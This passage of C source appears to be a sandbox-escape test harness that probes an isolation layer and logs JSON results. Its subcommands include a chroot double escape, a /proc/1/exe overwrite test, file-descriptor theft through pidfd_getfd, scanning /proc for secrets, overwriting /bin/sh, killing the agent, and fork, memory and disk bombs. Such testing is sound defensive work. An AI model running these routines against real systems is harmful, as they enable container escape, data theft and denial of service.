  r = process_vm_writev(1, &l, 1, &rz, 1, 0);
  emit("process_vm_writev_1", r, errno, NULL);
}

static void a_pidfd(void) {
  errno = 0;
  long pfd = syscall(SYS_pidfd_open, 1, 0);
  emit("pidfd_open_1", pfd, errno, NULL);
  if (pfd < 0) {
    /* pidfd_open(2) takes a pid_t: the upper 32 bits are dropped by the kernel */
    errno = 0;
    pfd = syscall(SYS_pidfd_open, 1L | (1L << 32), 0L);
    emit("pidfd_open_1", pfd, errno, "\"high_bits\": true");
  }
  int got = 0, sockets = 0;
  long first = -1;
  int first_err = 0;
  /* pidfd_getfd on any pidfd (even a bogus one): the filter or the ptrace check must refuse */
  for (int fd = 0; fd < 16; fd++) {
    errno = 0;
    long r = syscall(SYS_pidfd_getfd, pfd >= 0 ? (int)pfd : 1000, fd, 0);
    if (fd == 0) {
      first = r;
      first_err = errno;
    }
    if (r >= 0) {
      got++;
      struct stat sb;
      if (fstat((int)r, &sb) == 0 && S_ISSOCK(sb.st_mode)) sockets++;
      close((int)r);
    }
  }
  emit("pidfd_getfd_1", got ? 0 : first, got ? 0 : first_err,
       "\"fds_stolen\": %d, \"sockets_stolen\": %d", got, sockets);
  if (pfd >= 0) close((int)pfd);
}

static void a_proc1(void) {
  static const struct {
    const char *path;
    int flags;
  } files[] = {{"/proc/1/mem", O_RDONLY},
               {"/proc/1/mem", O_RDWR},
               {"/proc/1/environ", O_RDONLY},
               {"/proc/1/maps", O_RDONLY},
               {"/proc/1/fd/3", O_RDWR},
               {"/proc/1/root/.", O_RDONLY | O_DIRECTORY},
               {"/proc/1/cwd/.", O_RDONLY | O_DIRECTORY},
               {"/proc/1/fdinfo/3", O_RDONLY}};
  for (size_t i = 0; i < sizeof files / sizeof *files; i++) {
    errno = 0;
    int fd = open(files[i].path, files[i].flags | O_CLOEXEC | O_NONBLOCK | O_NOCTTY);
    long r = fd;
    int e = errno;
    long n = -2;
    if (fd >= 0 && !(files[i].flags & O_DIRECTORY)) {
      char b[64];
      n = read(fd, b, sizeof b);
      if (n < 0) n = -errno - 1000;
    }
    emit("proc1_open", r, e, "\"path\": %s, \"flags\": %d, \"read\": %ld", js(files[i].path),
         files[i].flags, n);
    if (fd >= 0) close(fd);
  }
  char t[256];
  static const char *links[] = {"/proc/1/exe", "/proc/1/root", "/proc/1/cwd", "/proc/1/fd/3"};
  for (size_t i = 0; i < sizeof links / sizeof *links; i++) {
    errno = 0;
    ssize_t n = readlink(links[i], t, sizeof t - 1);
    if (n >= 0)
      t[n] = 0;
    else
      t[0] = 0;
    emit("proc1_readlink", n, errno, "\"path\": %s, \"target\": %s", js(links[i]), js(t));
  }
}

static void a_proc1_exe(void) {
  /* CVE-2019-5736 against our agent: the file behind /proc/1/exe (the node's read-only copy,
     or a sealed memfd) must not be writable. */
  errno = 0;
  int fd = open("/proc/1/exe", O_RDWR | O_CLOEXEC);
  emit("proc1_exe_open_rdwr", fd, errno, NULL);
  if (fd < 0) {
    errno = 0;
    fd = open("/proc/1/exe", O_RDONLY | O_CLOEXEC);
    emit("proc1_exe_open_rdonly", fd, errno, NULL);
    if (fd < 0) {
      errno = 0;
      int w = open("/proc/1/exe", O_WRONLY | O_CLOEXEC);
      emit("proc1_exe_open_wronly", w, errno, NULL);
      if (w >= 0) close(w);
      return;
    }
  }
  errno = 0;
  long seals = fcntl(fd, F_GET_SEALS);
  emit("proc1_exe_seals", seals, errno, "\"write\": %d, \"shrink\": %d, \"grow\": %d, \"seal\": %d",
       seals > 0 && (seals & F_SEAL_WRITE), seals > 0 && (seals & F_SEAL_SHRINK),
       seals > 0 && (seals & F_SEAL_GROW), seals > 0 && (seals & F_SEAL_SEAL));
  unsigned char first = 0;
  ssize_t n = pread(fd, &first, 1, 0);
  /* write back the byte that is already there: harmless even if the write is allowed */
  errno = 0;
  long r = n == 1 ? pwrite(fd, &first, 1, 0) : -1;
  emit("proc1_exe_pwrite", r, errno, "\"read\": %ld", (long)n);
  errno = 0;
  void *m = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
  emit("proc1_exe_mmap_shared_write", m == MAP_FAILED ? -1 : 0, errno, NULL);
  if (m != MAP_FAILED) munmap(m, 4096);
  /* truncation only if a memfd is sealed against it (so that success cannot happen) */
  if (seals > 0 && (seals & F_SEAL_SHRINK) && (seals & F_SEAL_WRITE)) {
    errno = 0;
    int t = open("/proc/1/exe", O_WRONLY | O_TRUNC | O_CLOEXEC);
    emit("proc1_exe_open_trunc", t, errno, NULL);
    if (t >= 0) close(t);
    errno = 0;
    r = ftruncate(fd, 0);
    emit("proc1_exe_ftruncate", r, errno, NULL);
  }
  errno = 0;
  r = fcntl(fd, F_ADD_SEALS, 0);
  emit("proc1_exe_add_seals_0", r, errno, NULL);
  close(fd);
}

/* ---- 32-bit and x32 syscall ABIs ------------------------------------------------------- */

static const char s_none[] = "none";
static const char s_target[] = "/tmp/atk-m32";
static const char s_tmpfs[] = "tmpfs";

static void do_int80_mount(void *unused) {
  (void)unused;
  /* i386 mount(2) is number 21; static non-PIE: these strings live below 4 GiB */
  long ret;
  __asm__ volatile("int $0x80"
                   : "=a"(ret)
                   : "a"(21L), "b"((long)(uintptr_t)s_none), "c"((long)(uintptr_t)s_target),
                     "d"((long)(uintptr_t)s_tmpfs), "S"(0L), "D"(0L)
                   : "memory", "r8", "r9", "r10", "r11");
  int r = (int)ret;
  emit("int80_mount", r < 0 ? -1 : r, r < 0 ? -r : 0, "\"addr_ok\": %s",
       (uintptr_t)s_target < 0xffffffffUL ? "true" : "false");
  if (r == 0) umount2(s_target, MNT_DETACH);
}

static void do_int80_getpid(void *unused) {
  (void)unused;
  long ret;
  __asm__ volatile("int $0x80" : "=a"(ret) : "a"(20L) : "memory", "r8", "r9", "r10", "r11");
  emit("int80_getpid", ret < 0 ? -1 : ret, ret < 0 ? (int)-ret : 0, NULL);
}

static void do_x32_mount(void *unused) {
  (void)unused;
  errno = 0;
  long r = syscall(0x40000000L | SYS_mount, s_none, s_target, s_tmpfs, 0L, NULL);
  emit("x32_mount", r, errno, NULL);
  if (r == 0) umount2(s_target, MNT_DETACH);
}

static void a_abi(void) {
  mkdir(s_target, 0755);
  int st = in_child("int80_getpid", do_int80_getpid, NULL, 5);
  (void)st;
  in_child("int80_mount", do_int80_mount, NULL, 5);
  in_child("x32_mount", do_x32_mount, NULL, 5);
}

/* ---- B.4 #40: device nodes ------------------------------------------------------------- */

static void a_mknod(void) {
  static const struct {
    const char *path;
    mode_t type;
    unsigned maj, min;
  } nodes[] = {
      {"/tmp/atk-vda", S_IFBLK, 253, 0},                                  /* virtio disk */
      {"/tmp/atk-sda", S_IFBLK, 8, 0},   {"/tmp/atk-mem", S_IFCHR, 1, 1}, /* /dev/mem */
      {"/tmp/atk-kmsg", S_IFCHR, 1, 11},                                  /* /dev/kmsg */
      {"/tmp/atk-null", S_IFCHR, 1, 3},  {"/dev/atk-null", S_IFCHR, 1, 3},
  };
  for (size_t i = 0; i < sizeof nodes / sizeof *nodes; i++) {
    unlink(nodes[i].path);
    errno = 0;
    int r = mknod(nodes[i].path, nodes[i].type | 0600, makedev(nodes[i].maj, nodes[i].min));
    int e = errno;
    long rd = -2;
    int oe = 0;
    if (r == 0) {
      /* "using it": one read (never a write) */
      int fd = open(nodes[i].path, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
      if (fd < 0)
        oe = errno;
      else {
        char b[16];
        rd = read(fd, b, sizeof b);
        if (rd < 0) oe = errno;
        close(fd);
      }
      unlink(nodes[i].path);
    }
    emit("mknod", r, e,
         "\"path\": %s, \"dev\": \"%u:%u\", \"use_read\": %ld, \"use_errno\": \"%s\"",
         js(nodes[i].path), nodes[i].maj, nodes[i].min, rd, ename(oe));
  }
}

/* ---- B.2: /proc/sys, sysrq, kernel info, /sys --------------------------------------------- */

static char *slurp(const char *path, size_t max, ssize_t *len) {
  int fd = open(path, O_RDONLY | O_CLOEXEC | O_NONBLOCK);
  if (fd < 0) {
    *len = -errno;
    return NULL;
  }
  char *b = malloc(max + 1);
  ssize_t t = 0;
  while ((size_t)t < max) {
    ssize_t n = read(fd, b + t, max - (size_t)t);
    if (n <= 0) break;
    t += n;
  }
  close(fd);
  b[t] = 0;
  *len = t;
  return b;
}

static void a_sysctl(void) {
  /* core_pattern: write back exactly what is there (harmless if the write went through) */
  ssize_t len;
  char *cur = slurp("/proc/sys/kernel/core_pattern", 4096, &len);
  errno = 0;
  int fd = open("/proc/sys/kernel/core_pattern", O_WRONLY | O_CLOEXEC);
  int e = errno;
  long w = -2;
  if (fd >= 0) {
    errno = 0;
    w = write(fd, cur ? cur : "core", cur ? strlen(cur) : 4);
    e = errno;
    close(fd);
  }
  emit("core_pattern_write", fd < 0 ? -1 : w, e, "\"opened\": %s, \"value\": %s",
       fd >= 0 ? "true" : "false", js(cur ? cur : ""));
  free(cur);
  /* other global knobs: open for writing only, never write */
  static const char *knobs[] = {"/proc/sys/kernel/modprobe",
                                "/proc/sys/vm/drop_caches",
                                "/proc/sys/kernel/panic",
                                "/proc/sys/kernel/randomize_va_space",
                                "/proc/sys/vm/overcommit_memory",
                                "/proc/sys/kernel/io_uring_disabled",
                                "/proc/sys/fs/binfmt_misc/register",
                                "/proc/sys/kernel/poweroff_cmd"};
  for (size_t i = 0; i < sizeof knobs / sizeof *knobs; i++) {
    errno = 0;
    int k = open(knobs[i], O_WRONLY | O_CLOEXEC);
    emit("sysctl_open_write", k, errno, "\"path\": %s", js(knobs[i]));
    if (k >= 0) close(k);
  }
}

static void a_sysrq(void) {
  errno = 0;
  int fd = open("/proc/sysrq-trigger", O_WRONLY | O_CLOEXEC);
  int e = errno;
  long w = -2;
  char rdev[32] = "";
  if (fd >= 0) {
    struct stat sb;
    if (fstat(fd, &sb) == 0)
      snprintf(rdev, sizeof rdev, "%s%u:%u",
               S_ISCHR(sb.st_mode)   ? "c"
               : S_ISREG(sb.st_mode) ? "f"
                                     : "?",
               major(sb.st_rdev), minor(sb.st_rdev));
    errno = 0;
    w = write(fd, "h", 1); /* 'h' only prints the help text to the kernel log */
    e = errno;
    close(fd);
  }
  emit("sysrq_trigger", fd < 0 ? -1 : w, e, "\"opened\": %s, \"file\": %s",
       fd >= 0 ? "true" : "false", js(rdev));
}

static void a_kernel_info(void) {
  ssize_t len;
  char *b = slurp("/proc/kcore", 64, &len);
  emit("read_kcore", len < 0 ? -1 : len, len < 0 ? (int)-len : 0, NULL);
  free(b);
  b = slurp("/proc/kallsyms", 1 << 20, &len);
  long lines = 0, nonzero = 0;
  if (b) {
    for (char *p = b; *p;) {
      char *nl = strchr(p, '\n');
      if (!nl) break;
      lines++;
      if (strtoull(p, NULL, 16) != 0) nonzero++;
      p = nl + 1;
    }
  }
  emit("read_kallsyms", len < 0 ? -1 : len, len < 0 ? (int)-len : 0,
       "\"lines\": %ld, \"nonzero_addresses\": %ld", lines, nonzero);
  free(b);
  static const char *files[] = {"/proc/keys",           "/proc/timer_list",  "/proc/sched_debug",
                                "/proc/config.gz",      "/sys/kernel/debug", "/proc/kmsg",
                                "/sys/kernel/security", "/proc/1/stack"};
  for (size_t i = 0; i < sizeof files / sizeof *files; i++) {
    b = slurp(files[i], 4096, &len);
    emit("read_kernel_file", len < 0 ? -1 : len, len < 0 ? (int)-len : 0, "\"path\": %s",
         js(files[i]));
    free(b);
  }
}

static void a_sys_write(void) {
  static const char *paths[] = {"/sys/kernel/mm/transparent_hugepage/enabled",
                                "/sys/power/state",
                                "/sys/kernel/uevent_helper",
                                "/sys/module/printk/parameters/time",
                                "/sys/class/net/lo/mtu",
                                "/sys/kernel/profiling",
                                "/sys/fs/cgroup/cgroup.procs",
                                "/sys/fs/cgroup/pids/cgroup.procs",
                                "/sys/fs/cgroup/pids/pids.max",
                                "/sys/fs/cgroup/memory/memory.limit_in_bytes",
                                "/sys/fs/cgroup/unified/cgroup.procs",
                                "/sys/fs/cgroup/release_agent",
                                "/sys/bus/pci/rescan",
                                "/sys/block/vda/queue/scheduler"};
  for (size_t i = 0; i < sizeof paths / sizeof *paths; i++) {
    errno = 0;
    int fd = open(paths[i], O_WRONLY | O_CLOEXEC | O_NONBLOCK); /* opened, never written */
    emit("sys_open_write", fd, errno, "\"path\": %s", js(paths[i]));
    if (fd >= 0) close(fd);
  }
  errno = 0;
  int r = mkdir("/sys/fs/cgroup/atk", 0755);
  emit("sys_mkdir_cgroup", r, errno, NULL);
  if (r == 0) rmdir("/sys/fs/cgroup/atk");
  errno = 0;
  r = mkdir("/sys/atk", 0755);
  emit("sys_mkdir", r, errno, NULL);
  if (r == 0) rmdir("/sys/atk");
}

/* ---- B.3 #29: chroot double escape ------------------------------------------------------- */

static void a_chroot(int argc, char **argv) {
  const char *host_path = argc > 0 ? argv[0] : "/nonexistent-host-path";
  struct stat root0, root1;
  stat("/", &root0);
  mkdir("/tmp/atk-jail", 0755);
  mkdir("/tmp/atk-jail/inner", 0755);
  int oldroot = open("/", O_RDONLY | O_DIRECTORY); /* deliberately not O_CLOEXEC */
  errno = 0;
  int r = chroot("/tmp/atk-jail");
  emit("chroot_jail", r, errno, NULL);
  if (r != 0) return;
  /* 1. cwd is still outside the jail: walk up; 2. the fd to the old root */
  for (int i = 0; i < 64; i++)
    if (chdir("..") != 0) break;
  r = chroot(".");
  if (oldroot >= 0 && fchdir(oldroot) == 0) {
    for (int i = 0; i < 64; i++)
      if (chdir("..") != 0) break;
    r = chroot(".");
  }
  stat("/", &root1);
  struct stat hs;
  int host_visible = stat(host_path, &hs) == 0;
  int marker = access("/etc/marker", F_OK) == 0;
  emit("chroot_escape", r, errno,
       "\"same_root_as_start\": %s, \"host_path_visible\": %s, \"sandbox_marker\": %s",
       root0.st_dev == root1.st_dev && root0.st_ino == root1.st_ino ? "true" : "false",
       host_visible ? "true" : "false", marker ? "true" : "false");
}

/* ---- B.1 #10: overwrite a system binary in place ------------------------------------------ */

static void a_overwrite(int argc, char **argv) {
  const char *path = argc > 0 ? argv[0] : "/bin/sh";
  const char *data = argc > 1 ? argv[1] : "PWNED";
  errno = 0;
  int fd = open(path, O_WRONLY | O_CLOEXEC); /* follows symlinks, no truncation */
  if (fd < 0) {
    emit("overwrite", -1, errno, "\"path\": %s", js(path));
    return;
  }
  errno = 0;
  long r = pwrite(fd, data, strlen(data), 0);
  int e = errno;
  close(fd);
  emit("overwrite", r, e, "\"path\": %s", js(path));
}

/* ---- B.4: kill the agent --------------------------------------------------------------- */

static void a_kill1(int argc, char **argv) {
  for (int i = 0; i < argc; i++) {
    int sig = atoi(argv[i]);
    errno = 0;
    int r = kill(1, sig);
    emit("kill_1", r, errno, "\"signal\": %d", sig);
    usleep(200 * 1000);
  }
  errno = 0;
  int r = kill(-1, SIGKILL); /* everything we may signal, which includes ourselves: last */
  emit("kill_-1", r, errno, NULL);
}

/* ---- B.4 #31, #32: other sandboxes through /proc ------------------------------------------- */

static void a_proc_scan(int argc, char **argv) {
  const char *secret = argc > 0 ? argv[0] : "warren-secret";
  const char *path = argc > 1 ? argv[1] : "/tmp/secret";
  DIR *d = opendir("/proc");
  int pids = 0, found = 0, roots = 0;
  char list[2048] = "";
  struct dirent *e;
  while (d && (e = readdir(d))) {
    if (e->d_name[0] < '0' || e->d_name[0] > '9') continue;
    pids++;
    if (atoi(e->d_name) == getpid()) continue; /* our own argv holds the secret */
    if (strlen(list) < sizeof list - 16) {
      strcat(list, e->d_name);
      strcat(list, " ");
    }
    char p[512];
    static const char *sub[] = {"root", "cwd"};
    for (int s = 0; s < 2; s++) {
      snprintf(p, sizeof p, "/proc/%s/%s%s", e->d_name, sub[s], path);
      ssize_t len;
      char *b = slurp(p, 4096, &len);
      if (b) {
        roots++;
        if (strstr(b, secret)) found++;
      }
      free(b);
    }
    static const char *files[] = {"environ", "cmdline"};
    for (int f = 0; f < 2; f++) {
      snprintf(p, sizeof p, "/proc/%s/%s", e->d_name, files[f]);
      ssize_t len;
      char *b = slurp(p, 1 << 16, &len);
      if (b && len > 0 && memmem(b, (size_t)len, secret, strlen(secret))) found++;
      free(b);
    }
  }
  if (d) closedir(d);
  /* guess host pids directly: any pid that is not ours answers ENOENT */
  int guessed = 0;
  for (int pid = 2; pid < 4096; pid++) {
    if (pid == getpid()) continue;
    char p[64];
    snprintf(p, sizeof p, "/proc/%d/root%s", pid, path);
    ssize_t len;
    char *b = slurp(p, 4096, &len);
    if (b && strstr(b, secret)) guessed++;
    free(b);
  }
  emit("proc_scan", found + guessed ? 0 : -1, found + guessed ? 0 : ENOENT,
       "\"pids\": %d, \"pid_list\": %s, \"readable_roots\": %d, \"found\": %d, \"found_by_guess\": "
       "%d",
       pids, js(list), roots, found, guessed);
}

/* ---- B.4 #34, #36: host loopback, abstract UNIX sockets ----------------------------------- */

static void a_net(int argc, char **argv) {
  int port = argc > 0 ? atoi(argv[0]) : 7070;
  const char *abstract = argc > 1 ? argv[1] : "warren-no-such-socket";
  int s = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
  struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons((uint16_t)port)};
  a.sin_addr.s_addr = htonl(INADDR_LOOPBACK); /* 127.0.0.1 only */
  struct timeval tv = {2, 0};
  setsockopt(s, SOL_SOCKET, SO_SNDTIMEO, &tv, sizeof tv);
  errno = 0;
  int r = connect(s, (struct sockaddr *)&a, sizeof a);
  emit("connect_host_loopback", r, errno, "\"port\": %d", port);
  close(s);
  s = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
  struct sockaddr_un u = {.sun_family = AF_UNIX};
  size_t n = strlen(abstract);
  if (n > sizeof u.sun_path - 1) n = sizeof u.sun_path - 1;
  memcpy(u.sun_path + 1, abstract, n);
  errno = 0;
  r = connect(s, (struct sockaddr *)&u,
              (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + n));
  emit("connect_abstract_unix", r, errno, "\"name\": %s", js(abstract));
  close(s);
}

/* ---- B.6: resource exhaustion ------------------------------------------------------------ */

static void a_fork_bomb(int argc, char **argv) {
  int hold = argc > 0 ? atoi(argv[0]) : 5;
  int escape = argc > 1 ? atoi(argv[1]) : 0; /* children leave the process group */
  long cap = 100000, n = 0;
  int e = 0;
  for (; n < cap; n++) {
    pid_t p = fork();
    if (p < 0) {
      e = errno;
      break;
    }
    if (p == 0) {
      if (escape)
        setsid();
      else
        prctl(PR_SET_PDEATHSIG, SIGKILL);
      for (;;) pause();
    }
  }
  emit("fork_bomb", n, e, "\"forks\": %ld, \"fork_errno\": \"%s\"", n, ename(e));
  sleep((unsigned)hold);
}

static void a_mem_bomb(int argc, char **argv) {
  long max_mb = argc > 0 ? atol(argv[0]) : 4096;
  long mb = 0;
  for (; mb < max_mb; mb++) {
    char *p = malloc(1 << 20);
    if (!p) break;
    memset(p, 0xa5, 1 << 20);
    if (mb % 16 == 0) {
      fprintf(stderr, "mb=%ld\n", mb);
    }
  }
  emit("mem_bomb_survived", 0, 0, "\"mb\": %ld", mb);
}

static void a_disk_fill(int argc, char **argv) {
  const char *path = argc > 0 ? argv[0] : "/tmp/atk-fill";
  long cap_mb = argc > 1 ? atol(argv[1]) : 4096;
  signal(SIGXFSZ, SIG_IGN);
  int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0600);
  if (fd < 0) {
    emit("disk_fill", -1, errno, "\"path\": %s, \"bytes\": 0", js(path));
    return;
  }
  static char buf[1 << 20];
  memset(buf, 0x5a, sizeof buf);
  long long total = 0;
  int e = 0;
  while (total < (long long)cap_mb << 20) {
    ssize_t n = write(fd, buf, sizeof buf);
    if (n < 0) {
      if (errno == EINTR) continue;
      e = errno;
      break;
    }
    if (n == 0) break;
    total += n;
  }
  int fe = 0;
  if (fsync(fd) != 0) fe = errno;
  close(fd);
  emit("disk_fill", e ? -1 : 0, e, "\"path\": %s, \"bytes\": %lld, \"fsync_errno\": \"%s\"",
       js(path), total, ename(fe));
}

static void a_inode_fill(int argc, char **argv) {
  const char *dir = argc > 0 ? argv[0] : "/tmp/atk-inodes";
  long cap = argc > 1 ? atol(argv[1]) : 2000000;
  mkdir(dir, 0755);
  long n = 0;
  int e = 0;
  char p[512];
  for (; n < cap; n++) {
    snprintf(p, sizeof p, "%s/%ld", dir, n);
    int fd = open(p, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0600);
    if (fd < 0) {
      e = errno;
      break;
    }
    close(fd);
  }
  emit("inode_fill", e ? -1 : 0, e, "\"files\": %ld", n);
}

static void a_flood(int argc, char **argv) {
  long long gib_x100 = argc > 0 ? (long long)(atof(argv[0]) * 100) : 400; /* GiB, 2 decimals */
  int both = argc > 1 ? atoi(argv[1]) : 0;
  long long total = gib_x100 * ((1LL << 30) / 100);
  static char buf[1 << 20];
  memset(buf, 'A', sizeof buf);
  for (size_t i = 63; i < sizeof buf; i += 64) buf[i] = '\n';
  long long sent = 0;
  while (sent < total) {
    ssize_t n = write(1, buf, sizeof buf);
    if (n < 0) {
      if (errno == EINTR) continue;
      break;
    }
    if (both && write(2, buf, sizeof buf) < 0) {
    }
    sent += n;
  }
  fprintf(stderr, "\nflood done: %lld bytes\n", sent);
}

/* ---- main -------------------------------------------------------------------------------- */

struct cmd {
  const char *name;
  void (*fn0)(void);
  void (*fnv)(int, char **);
};

static const struct cmd cmds[] = {
    {"mount", a_mount, NULL},
    {"fsopen", a_fsopen, NULL},
    {"open_tree", a_open_tree, NULL},
    {"pivot_root", a_pivot_root, NULL},
    {"unshare", a_unshare, NULL},
    {"unshare_other", a_unshare_other, NULL},
    {"clone_user", a_clone_user, NULL},
    {"clone3", a_clone3, NULL},
    {"setns", a_setns, NULL},
    {"bpf", a_bpf, NULL},
    {"keyctl", a_keyctl, NULL},
    {"userfaultfd", a_userfaultfd, NULL},
    {"perf", a_perf, NULL},
    {"io_uring", a_io_uring, NULL},
    {"kexec", a_kexec, NULL},
    {"modules", a_modules, NULL},
    {"swapon", a_swapon, NULL},
    {"reboot", a_reboot, NULL},
    {"time", a_time, NULL},
    {"misc", a_misc, NULL},
    {"open_by_handle", a_open_by_handle, NULL},
    {"sockets", a_sockets, NULL},
    {"ioctl_xfs", a_ioctl_xfs, NULL},
    {"tiocsti", a_tiocsti, NULL},
    {"ptrace", a_ptrace, NULL},
    {"process_vm", a_process_vm, NULL},
    {"pidfd", a_pidfd, NULL},
    {"proc1", a_proc1, NULL},
    {"proc1_exe", a_proc1_exe, NULL},
    {"abi", a_abi, NULL},
    {"mknod", a_mknod, NULL},
    {"sysctl", a_sysctl, NULL},
    {"sysrq", a_sysrq, NULL},
    {"kernel_info", a_kernel_info, NULL},
    {"sys_write", a_sys_write, NULL},
    {"chroot", NULL, a_chroot},
    {"kill1", NULL, a_kill1},
    {"proc_scan", NULL, a_proc_scan},
    {"net", NULL, a_net},
    {"fork_bomb", NULL, a_fork_bomb},
    {"mem_bomb", NULL, a_mem_bomb},
    {"disk_fill", NULL, a_disk_fill},
    {"inode_fill", NULL, a_inode_fill},
    {"flood", NULL, a_flood},
    {"overwrite", NULL, a_overwrite},
};

int main(int argc, char **argv) {
  if (argc < 2) {
    fprintf(stderr, "usage: attack SUBCOMMAND [ARGS...]\nsubcommands:");
    for (size_t i = 0; i < sizeof cmds / sizeof *cmds; i++) fprintf(stderr, " %s", cmds[i].name);
    fprintf(stderr, "\n");
    return 2;
  }
  for (size_t i = 0; i < sizeof cmds / sizeof *cmds; i++) {
    if (strcmp(argv[1], cmds[i].name) != 0) continue;
    if (cmds[i].fn0)
      cmds[i].fn0();
    else
      cmds[i].fnv(argc - 2, argv + 2);
    return 0;
  }
  fprintf(stderr, "attack: unknown subcommand %s\n", argv[1]);
  return 2;
}
